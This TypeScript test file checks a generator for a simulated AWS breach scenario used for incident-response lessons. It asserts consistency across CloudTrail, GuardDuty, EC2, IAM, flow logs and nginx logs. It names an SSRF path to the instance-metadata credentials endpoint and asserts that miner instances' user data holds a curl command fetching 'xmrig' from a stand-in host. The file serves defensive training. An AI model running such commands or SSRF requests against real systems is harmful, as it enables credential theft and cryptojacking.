/** The secutter generator: deterministic, anchor-relative, and every source tells the same story. */
import { createHash } from "node:crypto";
import { gunzipSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import type { CloudTrailRecord } from "../../emulator/core/records.ts";
import { loadScenario } from "../../emulator/scenario/loader.ts";
import type { Ec2State } from "../../emulator/services/ec2/state.ts";
import type { GuardDutyState } from "../../emulator/services/guardduty/state.ts";
import type { IamState } from "../../emulator/services/iam/state.ts";
import type { S3State } from "../../emulator/services/s3/object-store.ts";
import { generate, type SecutterContent, secutterFacts } from "../../recordings/secutter/generator/index.ts";

const ACCOUNT = "111122223333";
const REGIONS = ["ap-northeast-1", "us-east-1"] as const;
const EVIDENCE = "secutter-ir-evidence";
const ATTACKER = "203.0.113.45";
const manifest = loadScenario("secutter").manifest;
const anchor = new Date("2026-03-01T12:00:00.000Z");

let c: SecutterContent;
/** The content's history as LookupEvents takes it in, oldest first. */
let history: CloudTrailRecord[];
let genMs = 0;
beforeAll(() => {
  const t0 = performance.now();
  c = generate({ manifest, anchor });
  genMs = performance.now() - t0;
  history = [...c.history];
  console.info(`secutter generate(): ${genMs.toFixed(0)} ms, ${history.length} CloudTrail events`);
});

const ec2 = (region: string) => c.accounts[ACCOUNT].regions[region].ec2 as Ec2State;
const gd = (region: string) => c.accounts[ACCOUNT].regions[region].guardduty as GuardDutyState;
const iam = () => c.accounts[ACCOUNT].global.iam as IamState;
const text = (bucket: string, key: string) => {
  const b = c.objects.read(ACCOUNT, bucket, key)!;
  return (key.endsWith(".gz") ? gunzipSync(b) : b).toString("utf8");
};
const evidenceKeys = (prefix: string) => c.objects.keys(EVIDENCE).filter((k) => k.startsWith(prefix));

describe("determinism", () => {
  it("is byte-identical for the same anchor (state, history and every object body)", () => {
    const d = generate({ manifest, anchor: new Date(anchor) });
    expect(JSON.stringify(d.accounts)).toBe(JSON.stringify(c.accounts));
    expect(JSON.stringify([...d.history])).toBe(JSON.stringify(history));
    for (const bucket of Object.keys((c.accounts[ACCOUNT].global.s3 as S3State).buckets)) {
      const a = c.objects.list(ACCOUNT, bucket);
      const b = d.objects.list(ACCOUNT, bucket);
      expect(b).toEqual(a);
      expect(a.length).toBeGreaterThan(0);
      for (const o of a) expect(d.objects.read(ACCOUNT, bucket, o.key)!.equals(c.objects.read(ACCOUNT, bucket, o.key)!)).toBe(true);
    }
  });

  it("is the published recording: for a fixed anchor, exactly the bytes the assessment and the lessons were made from", () => {
    // Changing the generator's output is a decision (regenerate assessment.json, check the lessons), never a side effect.
    const h = createHash("sha256");
    h.update(JSON.stringify(c.accounts));
    h.update(JSON.stringify(c.history));
    // Listings carry every object's size and MD5 ETag, so this pins the bodies too.
    for (const bucket of Object.keys((c.accounts[ACCOUNT].global.s3 as S3State).buckets)) h.update(JSON.stringify(c.objects.list(ACCOUNT, bucket)));
    expect(h.digest("hex")).toBe("8fe0bd0d25278a199e8b5ee73ddcd378b38cbbe25e464900e326175b5a6edcce");
  });

  it("builds each CloudTrail record the same whenever it is first read (history, evidence files, attacker facts)", async () => {
    const d = generate({ manifest, anchor: new Date(anchor) });
    // The evidence listing reads the history before anything else here does.
    expect(d.objects.list(ACCOUNT, EVIDENCE).length).toBeGreaterThan(0);
    expect(JSON.stringify(d.history)).toBe(JSON.stringify(c.history));
    expect(d.story.attackerCalls.every((r) => [...d.history].includes(r))).toBe(true);
    // Built ahead of need in slices, and read half-way through.
    const e = generate({ manifest, anchor: new Date(anchor) });
    const preparing = e.prepare!();
    await new Promise((r) => setImmediate(r));
    expect(JSON.stringify(e.history)).toBe(JSON.stringify(c.history));
    await preparing;
    expect(JSON.stringify(e.history)).toBe(JSON.stringify(c.history));
  });

  it("gzip bodies carry no timestamp (mtime 0), so bytes never depend on when they were built", () => {
    const key = evidenceKeys("AWSLogs/")[0];
    const b = c.objects.read(ACCOUNT, EVIDENCE, key)!;
    expect([...b.subarray(0, 3)]).toEqual([0x1f, 0x8b, 8]);
    expect(b.readUInt32LE(4)).toBe(0);
  });

  it("a different anchor shifts every time by the same amount and keeps every id", () => {
    const delta = (3 * 3600 + 17 * 60 + 13) * 1000;
    const d = generate({ manifest, anchor: new Date(anchor.getTime() + delta) });
    const shifted = [...d.history];
    expect(shifted.length).toBe(history.length);
    const unshifted = shifted.filter((r, i) => r.eventID !== history[i].eventID || Date.parse(r.eventTime) - Date.parse(history[i].eventTime) !== delta);
    expect(unshifted).toEqual([]);
    for (const region of REGIONS) {
      const a = ec2(region).instances;
      const b = d.accounts[ACCOUNT].regions[region].ec2 as Ec2State;
      expect(Object.keys(b.instances)).toEqual(Object.keys(a));
      for (const id of Object.keys(a)) expect(Date.parse(b.instances[id].LaunchTime!) - Date.parse(a[id].LaunchTime!)).toBe(delta);
      const fa = Object.values(gd(region).findings);
      const fb = Object.values((d.accounts[ACCOUNT].regions[region].guardduty as GuardDutyState).findings);
      for (const [i, f] of fa.entries()) expect(Date.parse(fb[i].Service!.EventFirstSeen!) - Date.parse(f.Service!.EventFirstSeen!)).toBe(delta);
    }
    expect(secutterFacts(new Date(anchor.getTime() + delta)).stolenAccessKeyId).toBe(secutterFacts(anchor).stolenAccessKeyId);
  });
});

describe("volume and shape", () => {
  it("has at least 10k CloudTrail events in both regions, oldest first, with the real record schema", () => {
    expect(history.length).toBeGreaterThanOrEqual(10_000);
    for (const region of REGIONS) expect(history.filter((r) => r.awsRegion === region).length).toBeGreaterThan(200);
    expect(history.every((r, i) => i === 0 || r.eventTime >= history[i - 1].eventTime)).toBe(true);
    const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
    const ids = new Set<string>();
    const bad: string[] = [];
    for (const r of history) {
      ids.add(r.eventID);
      const ok =
        ["1.08", "1.09"].includes(r.eventVersion as string) &&
        uuid.test(r.eventID) &&
        r.recipientAccountId === ACCOUNT &&
        /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/.test(r.eventTime) &&
        typeof r.readOnly === "boolean" &&
        typeof r.eventType === "string" &&
        typeof r.requestID === "string" &&
        typeof r.sourceIPAddress === "string" &&
        typeof r.userAgent === "string" &&
        r.managementEvent === (r.eventCategory === "Management") &&
        Date.parse(r.eventTime) < anchor.getTime() &&
        (r.eventCategory !== "Data" || (r.resources as unknown[]).length > 0);
      if (!ok) bad.push(JSON.stringify(r));
    }
    expect(bad).toEqual([]);
    expect(ids.size).toBe(history.length);
  });

  it("instance-role sessions look like IMDS deliveries (sessionIssuer, ec2RoleDelivery 1.0, ASIA key)", () => {
    const role = history.filter((r) => (r.userIdentity as any).sessionContext?.sessionIssuer?.userName === "secutter-web-role");
    expect(role.length).toBeGreaterThan(8000);
    const arn = `arn:aws:sts::${ACCOUNT}:assumed-role/secutter-web-role/${secutterFacts(anchor).webServer.instanceId}`;
    const bad = role.filter((r) => {
      const u = r.userIdentity as any;
      return !(
        /^ASIA[A-Z2-7]{16}$/.test(u.accessKeyId) &&
        u.sessionContext.ec2RoleDelivery === "1.0" &&
        /^AROA[A-Z2-7]{17}$/.test(u.sessionContext.sessionIssuer.principalId) &&
        u.arn === arn
      );
    });
    expect(bad).toEqual([]);
  });
});

describe("the stolen session", () => {
  it("the ASIA key used from 203.0.113.45 was issued to the web server and used by it legitimately", () => {
    const facts = secutterFacts(anchor);
    const fromAttacker = history.filter((r) => r.sourceIPAddress === ATTACKER);
    expect(fromAttacker.length).toBeGreaterThan(20);
    const keys = new Set(fromAttacker.map((r) => (r.userIdentity as any).accessKeyId));
    expect([...keys]).toEqual([facts.stolenAccessKeyId]);
    for (const r of fromAttacker) expect(r.userAgent as string).not.toMatch(/amzn2023|exec-env\/EC2/);
    const legit = history.filter((r) => (r.userIdentity as any).accessKeyId === facts.stolenAccessKeyId && r.sourceIPAddress === facts.webServer.publicIp);
    expect(legit.length).toBeGreaterThan(10);
    const issued = history.find((r) => r.eventName === "AssumeRole" && (r.responseElements as any)?.credentials?.accessKeyId === facts.stolenAccessKeyId);
    expect(issued?.eventTime).toBe(facts.stolenSessionIssued);
    expect(fromAttacker[0].eventTime).toBe(facts.firstMaliciousCall.eventTime);
    expect(fromAttacker[0].eventName).toBe("GetCallerIdentity");
    expect(fromAttacker.filter((r) => r.eventSource === "iam.amazonaws.com").every((r) => r.errorCode === "AccessDenied")).toBe(true);
    const get = fromAttacker.find((r) => r.eventName === "GetObject")!;
    expect((get.requestParameters as any).key).toBe(facts.exfiltrated.key);
    // The stolen dump is a real object in the backups bucket, and CloudTrail quotes its size.
    const meta = c.objects.head(ACCOUNT, facts.exfiltrated.bucket, facts.exfiltrated.key)!;
    expect((get.additionalEventData as any).bytesTransferredOut).toBe(meta.size);
    expect(gunzipSync(c.objects.read(ACCOUNT, facts.exfiltrated.bucket, facts.exfiltrated.key)!).toString()).toContain("INSERT INTO `users`");
  });

  it("the SSRF response saved as an icon holds that same key", () => {
    const facts = secutterFacts(anchor);
    const doc = JSON.parse(c.objects.read(ACCOUNT, facts.ssrf.savedIcon.bucket, facts.ssrf.savedIcon.key)!.toString());
    expect(doc.AccessKeyId).toBe(facts.stolenAccessKeyId);
    expect(doc.Code).toBe("Success");
  });
});

describe("EC2 state agrees with itself and with CloudTrail", () => {
  it("every instance's primary ENI has the instance's groups, subnet and address", () => {
    let n = 0;
    for (const region of REGIONS) {
      const st = ec2(region);
      for (const inst of Object.values(st.instances)) {
        n++;
        const enis = Object.values(st.networkInterfaces).filter((e) => e.Attachment?.InstanceId === inst.InstanceId);
        expect(enis).toHaveLength(1);
        const eni = enis[0];
        expect(inst.NetworkInterfaces?.[0].NetworkInterfaceId).toBe(eni.NetworkInterfaceId);
        expect(eni.Groups).toEqual(inst.SecurityGroups);
        expect(inst.NetworkInterfaces?.[0].Groups).toEqual(inst.SecurityGroups);
        expect(eni.SubnetId).toBe(inst.SubnetId);
        expect(eni.PrivateIpAddress).toBe(inst.PrivateIpAddress);
        for (const g of inst.SecurityGroups ?? []) expect(st.securityGroups[g.GroupId!].GroupName).toBe(g.GroupName);
        expect(st.subnets[inst.SubnetId!].VpcId).toBe(inst.VpcId);
        const vol = inst.BlockDeviceMappings![0].Ebs!.VolumeId!;
        expect(st.volumes[vol].Attachments?.[0].InstanceId).toBe(inst.InstanceId);
        expect(inst.State?.Name).toBe("stopped");
      }
    }
    expect(n).toBe(8);
  });

  it("every successful RunInstances in CloudTrail launched an instance that is in that region's state", () => {
    const runs = history.filter((r) => r.eventName === "RunInstances" && !r.errorCode);
    expect(runs.map((r) => r.awsRegion).sort()).toEqual([...REGIONS]);
    for (const r of runs) {
      const items = (r.responseElements as any).instancesSet.items as any[];
      for (const it of items) {
        const inst = ec2(r.awsRegion as string).instances[it.instanceId];
        expect(inst).toBeDefined();
        expect(inst.InstanceType).toBe(it.instanceType);
        expect(inst.KeyName).toBe("miner-key");
        expect(inst.SecurityGroups?.map((g) => g.GroupId)).toEqual(it.groupSet.items.map((g: any) => g.groupId));
        expect(inst.NetworkInterfaces?.[0].NetworkInterfaceId).toBe(it.networkInterfaceSet.items[0].networkInterfaceId);
        expect(Date.parse(inst.LaunchTime!)).toBe(it.launchTime);
        expect(Buffer.from(inst.UserData!, "base64").toString()).toContain("curl -s http://198.51.100.77/xmrig -o /tmp/xmrig");
      }
    }
  });

  it("the attacker's groups open SSH to the world in both regions, and the key pair exists in both", () => {
    const facts = secutterFacts(anchor);
    for (const region of REGIONS) {
      const sg = ec2(region).securityGroups[facts.securityGroups[region]];
      expect(sg.IpPermissions?.find((p) => p.FromPort === 22)?.IpRanges).toEqual([{ CidrIp: "0.0.0.0/0" }]);
      const rules = Object.values(ec2(region).securityGroupRules).filter((r) => r.GroupId === sg.GroupId && !r.IsEgress);
      const auth = history.find((r) => r.eventName === "AuthorizeSecurityGroupIngress" && r.awsRegion === region)!;
      expect(rules.map((r) => r.SecurityGroupRuleId)).toEqual([(auth.responseElements as any).securityGroupRuleSet.items[0].securityGroupRuleId]);
      expect(ec2(region).keyPairs["miner-key"].KeyPairId).toBe(facts.keyPairIds[region]);
    }
    expect(ec2("ap-northeast-1").keyPairs["secutter-deploy"]).toBeDefined();
  });

  it("the CTO's image and its snapshot exist and CloudTrail records CreateImage and the stops", () => {
    const facts = secutterFacts(anchor);
    const img = ec2("ap-northeast-1").images[facts.ctoActions.createImage.imageId];
    expect(img.OwnerId).toBe(ACCOUNT);
    expect(img.BlockDeviceMappings?.[0].Ebs?.SnapshotId).toBe(facts.ctoActions.createImage.snapshotId);
    expect(ec2("ap-northeast-1").snapshots[facts.ctoActions.createImage.snapshotId].VolumeId).toBe(
      ec2("ap-northeast-1").instances[facts.webServer.instanceId].BlockDeviceMappings?.[0].Ebs?.VolumeId,
    );
    const ci = history.find((r) => r.eventName === "CreateImage")!;
    expect((ci.responseElements as any).imageId).toBe(img.ImageId);
    const stopped = history
      .filter((r) => r.eventName === "StopInstances")
      .flatMap((r) => ((r.requestParameters as any).instancesSet.items as any[]).map((i) => `${r.awsRegion}/${i.instanceId}`));
    const all = REGIONS.flatMap((region) => Object.keys(ec2(region).instances).map((id) => `${region}/${id}`));
    expect(stopped.sort()).toEqual(all.sort());
    expect(ec2("ap-northeast-1").instances[facts.webServer.instanceId].MetadataOptions?.HttpTokens).toBe("optional");
  });

  it("flow logs exist per VPC and deliver to the evidence bucket", () => {
    const fls = REGIONS.flatMap((r) => Object.values(ec2(r).flowLogs));
    expect(fls).toHaveLength(3);
    for (const f of fls) expect(f.LogDestination).toBe(`arn:aws:s3:::${EVIDENCE}`);
  });
});

describe("IAM", () => {
  it("has the over-privileged role, its profile, users with keys and MFA", () => {
    const st = iam();
    const role = st.roles["secutter-web-role"];
    expect(role.AttachedPolicies).toContain("arn:aws:iam::aws:policy/AmazonEC2FullAccess");
    expect(JSON.parse(role.AssumeRolePolicyDocument!).Statement[0].Principal.Service).toBe("ec2.amazonaws.com");
    expect(JSON.parse(role.InlinePolicies["secutter-app-s3"]).Statement[0].Resource).toContain("arn:aws:s3:::secutter-db-backups-111122223333/*");
    expect(st.instanceProfiles["secutter-web-role"].Roles?.[0].RoleId).toBe(role.RoleId);
    const lastRoleCall = history.filter((r) => (r.userIdentity as any).sessionContext?.sessionIssuer?.userName === "secutter-web-role").pop()!;
    expect(role.RoleLastUsed?.LastUsedDate).toBe(lastRoleCall.eventTime);
    expect(lastRoleCall.sourceIPAddress).toBe("198.51.100.20");
    expect(st.users["cto-suzuki"].MFADevices).toHaveLength(1);
    expect(st.users["cto-suzuki"].LoginProfile).toBeDefined();
    expect(st.users["dev-tanaka"].AccessKeys[0].AccessKeyId).toMatch(/^AKIA[A-Z2-7]{16}$/);
    expect(st.users["dev-tanaka"].AccessKeys[0].LastUsed?.LastUsedDate).toBe(
      history.filter((r) => (r.userIdentity as any).userName === "dev-tanaka").pop()!.eventTime,
    );
    const resp = manifest.credentials[0];
    const user = st.users["ir-responder"];
    expect(user.UserId).toBe(resp.principal.principalId);
    expect(user.AccessKeys[0]).toMatchObject({ AccessKeyId: resp.accessKeyId });
    // Its secret is this installation's, never the recording's (state/install-credentials.ts).
    expect(user.AccessKeys[0].SecretAccessKey).toBeUndefined();
    expect(st.roles.AWSServiceRoleForAmazonGuardDuty.Path).toBe("/aws-service-role/guardduty.amazonaws.com/");
  });
});

describe("GuardDuty findings match EC2 state and CloudTrail", () => {
  it("InstanceCredentialExfiltration.OutsideAWS counts and times are the attacker's calls in that region", () => {
    const facts = secutterFacts(anchor);
    let seen = 0;
    for (const region of REGIONS) {
      const f = Object.values(gd(region).findings).find((x) => x.Type === "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS");
      const calls = history.filter((r) => r.sourceIPAddress === ATTACKER && r.awsRegion === region);
      expect(f).toBeDefined();
      seen++;
      expect(f!.Resource?.AccessKeyDetails?.AccessKeyId).toBe(facts.stolenAccessKeyId);
      expect(f!.Resource?.AccessKeyDetails?.UserName).toBe("secutter-web-role");
      expect(f!.Service?.Count).toBe(calls.length);
      expect(Date.parse(f!.Service!.EventFirstSeen!)).toBe(Date.parse(calls[0].eventTime));
      expect(Date.parse(f!.Service!.EventLastSeen!)).toBe(Date.parse(calls[calls.length - 1].eventTime));
      expect(f!.Service?.Action?.AwsApiCallAction?.RemoteIpDetails?.IpAddressV4).toBe(ATTACKER);
      expect(f!.Arn).toBe(`arn:aws:guardduty:${region}:${ACCOUNT}:detector/${f!.Service?.DetectorId}/finding/${f!.Id}`);
      expect(gd(region).detectors[f!.Service!.DetectorId!]).toBeDefined();
    }
    expect(seen).toBe(2);
    const disc = Object.values(gd("us-east-1").findings).find((x) => x.Type === "Discovery:IAMUser/AnomalousBehavior")!;
    const reads = history.filter(
      (r) => r.sourceIPAddress === ATTACKER && r.awsRegion === "us-east-1" && /^(List|Get|Describe)/.test(r.eventName) && r.eventSource !== "s3.amazonaws.com",
    );
    expect(disc.Service?.Count).toBe(reads.length);
    expect(Date.parse(disc.Service!.EventFirstSeen!)).toBe(Date.parse(reads[0].eventTime));
  });

  it("every instance finding names a real instance with the same ENI, address and groups", () => {
    let crypto = 0;
    let probes = 0;
    for (const region of REGIONS) {
      for (const f of Object.values(gd(region).findings)) {
        expect(f.SchemaVersion).toBe("2.0");
        expect(f.Service?.Archived).toBe(false);
        expect(f.Service?.ResourceRole).toBe("TARGET");
        if (f.Resource?.ResourceType !== "Instance") continue;
        const d = f.Resource.InstanceDetails!;
        const inst = ec2(region).instances[d.InstanceId!];
        expect(inst).toBeDefined();
        const ni = d.NetworkInterfaces![0];
        expect(ni.NetworkInterfaceId).toBe(inst.NetworkInterfaces?.[0].NetworkInterfaceId);
        expect(ni.PrivateIpAddress).toBe(inst.PrivateIpAddress);
        expect(ni.SecurityGroups).toEqual(inst.SecurityGroups);
        expect(ni.SubnetId).toBe(inst.SubnetId);
        expect(d.ImageId).toBe(inst.ImageId);
        expect(Date.parse(d.LaunchTime!)).toBe(Date.parse(inst.LaunchTime!));
        if (f.Type === "CryptoCurrency:EC2/BitcoinTool.B!DNS") {
          crypto++;
          expect(f.Service?.Action?.DnsRequestAction?.Domain).toBe("pool.minexmr.example");
        }
        if (f.Type === "Recon:EC2/PortProbeUnprotectedPort") {
          probes++;
          expect(f.Service?.Action?.PortProbeAction?.PortProbeDetails?.[0].RemoteIpDetails?.IpAddressV4).toMatch(/^192\.0\.2\./);
        }
      }
    }
    expect(crypto).toBe(7);
    expect(probes).toBe(7);
  });
});

describe("the evidence bucket", () => {
  it("CloudTrail files follow CloudTrail's layout and hold exactly the history", () => {
    const keys = evidenceKeys(`AWSLogs/${ACCOUNT}/CloudTrail/`);
    const re =
      /^AWSLogs\/111122223333\/CloudTrail\/(ap-northeast-1|us-east-1)\/(\d{4})\/(\d{2})\/(\d{2})\/111122223333_CloudTrail_\1_(\d{4})(\d{2})(\d{2})T\d{4}Z_[A-Za-z0-9]{16}\.json\.gz$/;
    const ids: string[] = [];
    for (const k of keys) {
      const m = re.exec(k);
      expect(m, k).not.toBeNull();
      expect(m![2] + m![3] + m![4]).toBe(m![5] + m![6] + m![7]);
      const doc = JSON.parse(text(EVIDENCE, k)) as { Records: CloudTrailRecord[] };
      for (const r of doc.Records) {
        expect(r.awsRegion).toBe(m![1]);
        ids.push(r.eventID);
      }
    }
    expect(ids.sort()).toEqual(history.map((r) => r.eventID).sort());
  });

  it("VPC flow logs are version-2 default format with the real file naming, and show the miners' pool traffic", () => {
    const keys = evidenceKeys(`AWSLogs/${ACCOUNT}/vpcflowlogs/`);
    expect(keys.length).toBeGreaterThan(100);
    const re =
      /^AWSLogs\/111122223333\/vpcflowlogs\/(ap-northeast-1|us-east-1)\/\d{4}\/\d{2}\/\d{2}\/111122223333_vpcflowlogs_\1_fl-0[0-9a-f]{16}_\d{8}T\d{4}Z_[0-9a-f]{8}\.log\.gz$/;
    const minerIps = new Map<string, string>();
    for (const region of REGIONS)
      for (const i of Object.values(ec2(region).instances))
        if (i.KeyName === "miner-key") minerIps.set(i.PrivateIpAddress!, i.NetworkInterfaces![0].NetworkInterfaceId!);
    let pool = 0;
    let lines = 0;
    // Plain checks collected per line: hundreds of thousands of expect() calls would dominate the run time.
    const bad: string[] = [];
    for (const k of keys) {
      if (!re.test(k)) bad.push(k);
      const [header, ...rest] = text(EVIDENCE, k).trimEnd().split("\n");
      if (header !== "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status")
        bad.push(`${k}: ${header}`);
      for (const line of rest) {
        lines++;
        const f = line.split(" ");
        const ok =
          f.length === 14 &&
          f[0] === "2" &&
          f[1] === ACCOUNT &&
          /^eni-0[0-9a-f]{16}$/.test(f[2]) &&
          /^\d+\.\d+\.\d+\.\d+$/.test(f[3]) &&
          /^\d+\.\d+\.\d+\.\d+$/.test(f[4]) &&
          [5, 6, 7, 8, 9, 10, 11].every((n) => /^\d+$/.test(f[n])) &&
          Number(f[11]) >= Number(f[10]) &&
          (f[12] === "ACCEPT" || f[12] === "REJECT") &&
          f[13] === "OK";
        if (!ok) bad.push(line);
        if (minerIps.has(f[3]) && f[4] === "198.51.100.77" && f[6] === "4444" && f[12] === "ACCEPT") {
          pool++;
          if (f[2] !== minerIps.get(f[3])) bad.push(`wrong ENI: ${line}`);
        }
      }
    }
    expect(bad).toEqual([]);
    expect(lines).toBeGreaterThan(5000);
    expect(pool).toBeGreaterThan(500);
  });

  it("nginx logs have ≥50k combined-format lines and the SSRF to the role's credentials answered 200", () => {
    const keys = evidenceKeys("nginx/access.log");
    const line = /^(\S+) - - \[\d\d\/\w{3}\/\d{4}:\d\d:\d\d:\d\d \+0900\] "(\w+) (\S+) HTTP\/1\.1" (\d{3}) (\d+) "[^"]*" "[^"]*" "-"$/;
    let n = 0;
    const bad: string[] = [];
    const ssrf: string[] = [];
    for (const k of keys) {
      for (const l of text(EVIDENCE, k).trimEnd().split("\n")) {
        const m = line.exec(l);
        n++;
        if (!m) {
          bad.push(l);
          continue;
        }
        if (m![3].includes("169.254.169.254/latest/meta-data/iam/security-credentials/secutter-web-role") && m![4] === "200") ssrf.push(m![1]);
      }
    }
    expect(bad).toEqual([]);
    expect(n).toBeGreaterThanOrEqual(50_000);
    expect(ssrf).toEqual([ATTACKER]);
    const errors = evidenceKeys("nginx/error.log")
      .map((k) => text(EVIDENCE, k))
      .join("");
    expect(errors).toMatch(/PHP Warning: .*client: 203\.0\.113\.45.*security-credentials\/secutter-web-role/);
  });
});
